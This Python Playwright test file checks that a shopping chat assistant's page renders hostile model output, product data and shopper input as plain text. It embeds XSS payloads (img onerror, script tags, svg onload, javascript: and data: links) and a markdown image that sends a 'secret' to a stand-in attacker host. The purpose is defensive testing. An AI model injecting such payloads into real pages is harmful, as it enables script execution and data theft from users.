"""What a model, a product or a shopper may write is text. The stream is the test's own; the page is real."""

import json

from conftest import answered, ask
from playwright.sync_api import BrowserContext, Page, Route, expect

PRODUCT = {
    "id": "p-1", "name": "<img src=x onerror=\"window.hit=1\">", "brand": "<script>window.hit=1</script>", "category": ["가방"],
    "price": 1000, "listPrice": 2000, "currency": "KRW", "discountPercent": 50, "colors": ["<b>빨강</b>"], "sizes": [], "stock": 3,
    "rating": 4.5, "reviewCount": 2, "imageURL": "javascript:window.hit=1", "url": "javascript:window.hit=1", "status": "on_sale",
    "why": "\"><svg onload=window.hit=1>",
}


def answering(page: Page, answer: str, products: list[dict] | None = None) -> None:
    events = [
        ("turn", {"conversationId": "c-1", "turnId": "t-1", "intent": "search", "query": "", "constraints": {}, "locale": "ko"}),
        ("products", {"products": products or [], "total": len(products or [])}),
        *(("delta", {"text": answer[at:at + 3]}) for at in range(0, len(answer), 3)),
        ("done", {"answer": answer, "model": "m", "degraded": [], "timings": {}}),
    ]
    body = "".join(f"event: {name}\nid: t-1:{n}\ndata: {json.dumps(data)}\n\n" for n, (name, data) in enumerate(events, 1))

    def fulfil(route: Route) -> None:
        route.fulfill(status=200, headers={"Content-Type": "text/event-stream; charset=utf-8"}, body=body)

    page.route("**/api/llm/chat", fulfil)


def test_markup_of_a_model_stays_text(page: Page, base: str) -> None:
    answering(page, (
        "<img src=x onerror=window.hit=1> <script>window.hit=1</script>\n\n"
        "[속임](javascript:window.hit=1) [자료](data:text/html,<script>window.hit=1</script>) ![그림](https://evil.example/?q=비밀)\n\n"
        "[가게](https://shop.example/a?b=1)"))
    page.goto(base)
    requests = []
    page.on("request", lambda request: requests.append(request.url))
    ask(page, "안녕")
    answered(page, 1)
    answer = page.locator(".answer")
    expect(answer).to_contain_text("<script>window.hit=1</script>")
    assert answer.locator("img, script, svg, iframe").count() == 0
    links = answer.locator("a").evaluate_all("links => links.map(link => [link.href, link.rel])")
    assert links == [["https://shop.example/a?b=1", "noopener noreferrer nofollow"]]
    # Where it leads is shown.
    expect(answer).to_contain_text("가게 (shop.example)")
    assert page.evaluate("window.hit") is None
    assert not any("evil.example" in url for url in requests)


def test_markdown_is_drawn_also_where_it_is_not_finished(page: Page, base: str) -> None:
    answering(page, "**굵게** 그리고 3 * 4 * 5\n- 하나\n- **둘**\n\n1. 첫째\n2. 둘째\n\n`코드` ~~취소~~\n\n마지막 **아직 열림")
    page.goto(base)
    ask(page, "안녕")
    answered(page, 1)
    answer = page.locator(".answer")
    assert answer.locator("strong").all_inner_texts() == ["굵게", "둘", "아직 열림"]
    assert answer.locator("ul > li").count() == 2 and answer.locator("ol > li").count() == 2
    expect(answer).to_contain_text("3 * 4 * 5")
    assert answer.locator("code").inner_text() == "코드" and answer.locator("del").inner_text() == "취소"


def test_a_product_of_a_hostile_shop_is_text_and_gets_a_drawing(page: Page, base: str) -> None:
    answering(page, "하나 있어요.", [PRODUCT])
    page.goto(base)
    ask(page, "가방")
    answered(page, 1)
    card = page.locator(".card")
    expect(card).to_contain_text(PRODUCT["name"])
    expect(card).to_contain_text("3개 남음")
    assert card.locator("img, script").count() == 0
    expect(card.locator("svg.placeholder")).to_be_visible()
    assert page.evaluate("window.hit") is None


def test_what_the_shopper_writes_stays_text(page: Page, base: str) -> None:
    answering(page, "네.")
    page.goto(base)
    ask(page, "<img src=x onerror=window.hit=1>")
    answered(page, 1)
    expect(page.locator(".mine")).to_contain_text("<img src=x onerror=window.hit=1>")
    expect(page.locator(".conversation-title")).to_have_text("<img src=x onerror=window.hit=1>")
    assert page.locator(".mine img").count() == 0 and page.evaluate("window.hit") is None


def test_a_picture_that_does_not_load_is_drawn(context: BrowserContext, base: str) -> None:
    # Not watched: browsers write what does not load to the console.
    page = context.new_page()
    answering(page, "하나 있어요.", [{**PRODUCT, "imageURL": "/images/none.png"}])
    page.route("**/images/none.png", lambda route: route.fulfill(status=404))
    page.goto(base)
    ask(page, "가방")
    answered(page, 1)
    expect(page.locator(".card svg.placeholder")).to_be_visible()
